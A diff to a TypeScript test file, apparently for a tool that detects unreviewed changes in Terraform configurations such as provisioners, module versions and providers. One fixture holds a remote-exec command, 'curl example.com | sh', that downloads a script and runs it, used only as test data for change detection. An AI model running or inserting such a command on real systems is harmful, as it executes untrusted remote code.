@@ -146,14 +146,30 @@ const provisioned = (source: string) =>
     { terraform: { required_providers: { aws: { source, version: '6.25.0' } } } },
   );
 
+const provisioner = (command: string, host = 'a.example') =>
+  west({
+    aws_instance: { host: { provisioner: [{ 'remote-exec': { inline: [command] } }], connection: { host } } },
+  });
+const module = (body: object) => ({ west: { module: { network: { source: './network', ...body } } } });
+
 // A comparison knows what is unproven again by its words.
 it.each([
   ['another template', template('{}'), template('{"Resources":{}}')],
   ['another program', program('true'), program('false')],
+  ['a provisioner of another command', provisioner('true'), provisioner('curl example.com | sh')],
+  ['a provisioner on another host', provisioner('true'), provisioner('true', 'b.example')],
+  ['another version of a module', module({ version: '1.0.0' }), module({ version: '1.0.1' })],
+  ['another argument of a module', module({ open: false }), module({ open: true })],
   ['the provider of others', provisioned('hashicorp/aws'), provisioned('others/aws')],
 ])('tells %s from what was known', (_, known, other) => {
   expect(unprovenOf(known)).not.toEqual([]);
   expect(unprovenOf(other)).not.toEqual(unprovenOf(known));
+});
+
+it('knows a provisioner again that is written in another place', () => {
+  const [known] = unprovenOf(provisioner('true'));
+  const later = unprovenOf({ west: { resource: { aws_sqs_queue: { q: {} }, ...provisioner('true').west.resource } } });
+  expect(later).toContain(known);
 });
 
 it('shows nothing of a template, and of a sensitive one not even its digest', () => {
